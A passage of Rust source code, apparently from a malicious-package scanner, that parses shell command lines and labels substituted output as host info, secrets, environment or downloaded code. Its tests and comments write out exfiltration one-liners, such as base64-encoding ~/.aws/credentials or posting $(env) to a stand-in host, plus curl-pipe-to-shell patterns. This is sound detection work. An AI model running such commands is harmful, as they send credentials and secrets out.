            "_thread.start_new_thread" | "thread.start_new_thread" => (
                c.args.first()?.clone(),
                c.args.get(1).cloned().into_iter().collect(),
            ),
            "threading.Timer" => (
                c.args.get(1).or_else(|| kwarg("function"))?.clone(),
                c.args
                    .get(2)
                    .or_else(|| kwarg("args"))
                    .cloned()
                    .into_iter()
                    .collect(),
            ),
            _ => (
                kwarg("target").or_else(|| c.args.get(1))?.clone(),
                kwarg("args")
                    .or_else(|| c.args.get(3))
                    .cloned()
                    .into_iter()
                    .collect(),
            ),
        };
        // A tuple of arguments (`args=(code, globals)`) spreads into the call.
        let args = match args.as_slice() {
            [Expr::Seq(items)] => items.clone(),
            _ => args,
        };
        if self.kinds_of(&self.callee(&func)) == Kinds::default() {
            return None;
        }
        Some(Call {
            func,
            args,
            kwargs: Vec::new(),
            line: c.line,
            reflective: false,
        })
    }

    /// The command line a spawn call runs: a string, or an argument list joined by spaces.
    fn command_line(&self, c: &Call) -> Option<String> {
        let first = c.args.first().or_else(|| {
            c.kwargs
                .iter()
                .find(|(k, _)| k == "args" || k == "cmd")
                .map(|(_, v)| v)
        })?;
        // Argument lists are quoted word by word, so `["python", "-c", "a b"]` stays
        // three words when the line is parsed again.
        let mut words = match first {
            // `Popen(["curl x | sh"], shell=True)`: a one-item list is the whole line.
            Expr::Seq(items) if items.len() == 1 => vec![self.fold(&items[0])?],
            Expr::Seq(items) => items
                .iter()
                .map(|i| shell_quote(&self.fold_or_hole(i)))
                .collect(),
            other => vec![self.fold(other)?],
        };
        if let Some(Expr::Seq(items)) = c.args.get(1) {
            words.extend(items.iter().map(|i| shell_quote(&self.fold_or_hole(i))));
        }
        Some(words.join(" "))
    }
}

/// Resolves the file names a call reads, writes or moves into against the working
/// directory: the path arguments of file calls (`open(".drv", "wb")`), the object of a
/// `pathlib.Path` method, and the folder of a `chdir`.
fn at_workdir(fact: &mut CallFact, cwd: &str) {
    let files = fact.kinds.has(Kinds::WRITE)
        || fact.kinds.has(Kinds::READ)
        || fact.kinds.has(Kinds::WRITE_DEST)
        || workdir::CHDIR_CALLS.contains(&fact.callee.as_str());
    if !files {
        return;
    }
    let resolve = |v: &mut Value| {
        if let Some(t) = v.text.as_mut() {
            *t = workdir::resolve(cwd, t);
        }
    };
    let positional = if fact.kinds.has(Kinds::WRITE_DEST) {
        2
    } else {
        1
    };
    fact.args.iter_mut().take(positional).for_each(resolve);
    for (k, v) in fact.kwargs.iter_mut() {
        if matches!(k.as_str(), "file" | "filename" | "dst" | "path") {
            resolve(v);
        }
    }
    if fact.callee.starts_with("pathlib.Path.") {
        fact.receiver.iter_mut().for_each(resolve);
    }
}

/// Turns the commands of a command line into call facts named `sh.<program>`;
/// redirections become `sh.>` / `sh.>>` writes to their target. Relative file names
/// resolve against `cwd`, the working directory the line starts in, and the folders
/// its own `cd` commands move into.
pub fn shell_calls(line: &str, spawner: &CallFact, cwd: Option<&str>) -> Vec<CallFact> {
    shell_calls_with(line, spawner, cwd, &mut shell::Vars::default())
}

/// [`shell_calls`] for one line of a script: `vars` holds what earlier lines assigned.
pub fn shell_calls_with(
    line: &str,
    spawner: &CallFact,
    cwd: Option<&str>,
    vars: &mut shell::Vars,
) -> Vec<CallFact> {
    let mut out = Vec::new();
    let mut cwd = cwd.map(str::to_string);
    let at = |cwd: &Option<String>, p: &str| match cwd {
        Some(dir) => workdir::resolve(dir, p),
        None => p.to_string(),
    };
    // The words carry what the command line was built from (`f"dig {hostname}.x"`).
    let labels = spawner.arg_labels();
    for cmd in shell::parse_with(line, vars) {
        let info = ShellInfo {
            background: cmd.background,
            pipe_to: cmd.pipe_to.clone(),
        };
        let text = |s: &str| Value {
            text: Some(s.to_string()),
            labels,
            ..Value::default()
        };
        for (op, target) in &cmd.redirects {
            let callee = format!("sh.{op}");
            out.push(CallFact {
                kinds: catalog::kinds(&callee),
                callee,
                args: vec![text(&at(&cwd, target))],
                shell: Some(info.clone()),
                ..spawner.clone()
            });
        }
        let name = cmd.name();
        if name == "cd" {
            let dir = cmd.args.first().map_or("~", String::as_str);
            cwd = Some(at(&cwd, dir));
        }
        // A program started by its path runs from the working directory, and the files
        // `chmod`, `cp` and `mv` are handed are named from it.
        let program = if cmd.program.contains(['/', '\\']) {
            at(&cwd, &cmd.program)
        } else {
            cmd.program.clone()
        };
        let mut args = vec![text(&program)];
        let file_args = matches!(name, "chmod" | "cp" | "mv");
        args.extend(cmd.args.iter().enumerate().map(|(i, a)| {
            let mut v = if file_args {
                text(&at(&cwd, a))
            } else {
                text(a)
            };
            for (_, source) in cmd.substituted.iter().filter(|(arg, _)| *arg == i) {
                v.labels.add(output_labels(source));
            }
            v
        }));
        let callee = format!("sh.{name}");
        // A program started by its path (`./x`, `~/.x`) is a process the package placed.
        let by_path = if cmd.program.contains(['/', '\\']) {
            Kinds::SPAWN
        } else {
            Kinds::default()
        };
        out.push(CallFact {
            kinds: catalog::kinds(&callee).or(by_path),
            callee,
            args,
            kwargs: vec![],
            receiver: None,
            shell: Some(info),
            ..spawner.clone()
        });
    }
    out
}

/// Programs whose output names the machine or its user.
const HOST_INFO_PROGRAMS: &[&str] = &["whoami", "hostname", "id", "uname", "pwd", "logname"];
/// Programs whose output is (an encoding of) the files they are given.
const FILE_READERS: &[&str] = &[
    "cat", "base64", "head", "tail", "xxd", "od", "gzip", "bzip2", "xz", "tar", "zip", "tr",
];

/// What the output of a command substituted into a word carries (`$(whoami)` is the user
/// name, `$(cat ~/.aws/credentials | base64)` a secret, `$(env)` the environment,
/// `$(curl …)` what a server sent).
fn output_labels(source: &shell::Source) -> Labels {
    let program = source.program.as_str();
    if HOST_INFO_PROGRAMS.contains(&program) {
        return Labels::HOSTINFO;
    }
    match program {
        // What a server sends back: `bash -c "$(curl -fsSL …)"` runs it.
        "curl" | "wget" | "fetch" => Labels::DOWNLOADED,
        "env" | "printenv" | "set" if source.args.is_empty() => Labels::ENV,
        "printenv" if source.args.iter().any(|a| sensitive::is_secret_env(a)) => Labels::SECRET,
        _ if FILE_READERS.contains(&program)
            && source
                .args
                .iter()
                .any(|a| sensitive::credential_path(a).is_some()) =>
        {
            Labels::SECRET
        }
        _ => Labels::default(),
    }
}

/// One shell word: quoted when it holds anything the shell would split or expand.
/// The item `[[a, b]][0][1]` selects from a literal list (`b`), if the index is a number.
fn literal_item(e: &Expr) -> Option<&Expr> {
    let Expr::Index(list, i) = e else {
        return None;
    };
    let Expr::Int(i) = i.as_ref() else {
        return None;
    };
    let list = literal_item(list).unwrap_or(list);
    match list {
        Expr::Seq(items) => items.get(usize::try_from(*i).ok()?),
        _ => None,
    }
}

fn shell_quote(word: &str) -> String {
    if !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./~:=@%+,{}?$".contains(c))
    {
        word.to_string()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

fn cap(mut s: String) -> String {
    if s.len() > MAX_FOLDED {
        let mut end = MAX_FOLDED;
        while !s.is_char_boundary(end) {
            end -= 1;
        }
        s.truncate(end);
    }
    s
}

/// The key under which a local function's result labels are kept (`f()`).
fn result_key(function: &str) -> String {
    format!("{function}()")
}

/// `obj.name`, except that members of the global object are plain names
/// (`global.require`, `globalThis['ev'+'al']`, `window.atob`) and `default` is the
/// object itself.
fn member(obj: String, name: &str) -> String {
    if matches!(obj.as_str(), "global" | "globalThis" | "window") {
        name.to_string()
    } else if name == "default" {
        // `require("axios").default` is the module itself (an ES module's default export).
        obj
    } else {
        format!("{obj}.{name}")
    }
}

/// Objects whose members are the builtins or the module's globals: a name looked up in
/// one is the plain name (`getattr(builtins, "exec")` is `exec`).
fn is_builtins_object(name: &str) -> bool {
    matches!(
        name,
        "builtins"
            | "__builtins__"
            | "__builtin__"
            | "builtins.__dict__"
            | "__builtins__.__dict__"
            | "globals"
            | "locals"
    )
}

/// `__builtins__.get` and the like: a lookup of a builtin by its name.
fn builtins_lookup(callee: &str) -> bool {
    callee.rsplit_once('.').is_some_and(|(obj, m)| {
        is_builtins_object(obj) && matches!(m, "get" | "__getitem__" | "__getattribute__")
    })
}

/// A name a language could write as a plain member (`env`, `child_process`).
fn is_identifier(s: &str) -> bool {
    s.chars()
        .next()
        .is_some_and(|c| c.is_alphabetic() || c == '_' || c == '$')
        && s.chars()
            .all(|c| c.is_alphanumeric() || c == '_' || c == '$')
}

fn strip_node_prefix(module: &str) -> String {
    module.strip_prefix("node:").unwrap_or(module).to_string()
}

fn is_env_object(name: &str) -> bool {
    matches!(name, "os.environ" | "process.env" | "ENV")
}

/// `os.environ.HOME` style names as the path text detectors understand (`~`, `%APPDATA%`).
fn env_var_text(name: &str) -> Option<String> {
    let var = ["os.environ.", "process.env.", "ENV."]
        .iter()
        .find_map(|p| name.strip_prefix(p))?;
    Some(match var.to_ascii_uppercase().as_str() {
        "HOME" | "USERPROFILE" => "~".to_string(),
        "APPDATA" | "LOCALAPPDATA" | "TEMP" | "TMP" | "PROGRAMDATA" => {
            format!("%{}%", var.to_ascii_uppercase())
        }
        _ => format!("${var}"),
    })
}

fn join_path(a: &str, b: &str) -> String {
    if b.starts_with('/') || b.starts_with('~') {
        return b.to_string();
    }
    if a.ends_with('/') || a.ends_with('\\') || a.is_empty() {
        format!("{a}{b}")
    } else {
        format!("{a}/{b}")
    }
}

fn percent_format(fmt: &str, vals: &[String]) -> String {
    let mut out = String::new();
    let mut vals = vals.iter();
    let mut chars = fmt.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '%' {
            match chars.next() {
                Some('%') => out.push('%'),
                Some(_) => out.push_str(vals.next().map(String::as_str).unwrap_or("{?}")),
                None => out.push('%'),
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn brace_format(fmt: &str, vals: &[String]) -> String {
    let mut out = String::new();
    let mut vals = vals.iter();
    let mut rest = fmt;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        match rest[open..].find('}') {
            Some(close) => {
                out.push_str(vals.next().map(String::as_str).unwrap_or("{?}"));
                rest = &rest[open + close + 1..];
            }
            None => {
                rest = &rest[open..];
                break;
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `def f0(): f1()`, `def f1(): f2()`, ... and a top-level `f0()`: every function runs
    /// on load, found in linear time (a naive fixpoint is quadratic in the chain length).
    #[test]
    fn a_long_call_chain_is_marked_on_load_in_linear_time() {
        let n = 50_000;
        let call = |name: String| Stmt::Eval {
            value: Expr::Call(Box::new(Call {
                func: Expr::Name(name),
                args: vec![],
                kwargs: vec![],
                line: 1,
                reflective: false,
            })),
            line: 1,
        };
        let mut body: Vec<Stmt> = (0..n)
            .map(|i| Stmt::Def {
                name: format!("f{i}"),
                kind: DefKind::Function,
                params: vec![],
                bases: vec![],
                body: vec![call(format!("f{}", i + 1))],
                line: 1,
            })
            .collect();
        body.push(call("f0".into()));
        let start = std::time::Instant::now();
        let facts = extract(
            Module {
                body,
                ..Module::default()
            },
            None,
        );
        assert!(facts.calls.iter().all(|c| c.on_load));
        assert!(start.elapsed().as_secs() < 10, "took {:?}", start.elapsed());
    }

    /// What a substituted command produces labels the argument it is substituted into.
    #[test]
    fn substituted_output_labels_the_argument() {
        let spawner = CallFact::command_line("os.system".into(), 1, vec![]);
        let label_of = |line: &str| {
            let calls = shell_calls(line, &spawner, None);
            let curl = calls.iter().find(|c| c.callee == "sh.curl").unwrap();
            curl.arg_labels()
        };
        assert_eq!(
            label_of("curl https://x.invalid/$(whoami)"),
            Labels::HOSTINFO
        );
        let secret = "K=$(cat ~/.aws/credentials | base64); curl \"https://x.invalid/?k=$K\"";
        assert_eq!(label_of(secret), Labels::SECRET);
        assert_eq!(
            label_of("curl -d \"$(env)\" https://x.invalid"),
            Labels::ENV
        );
        assert_eq!(
            label_of("curl https://x.invalid/$(cat VERSION)"),
            Labels::default()
        );
    }
}
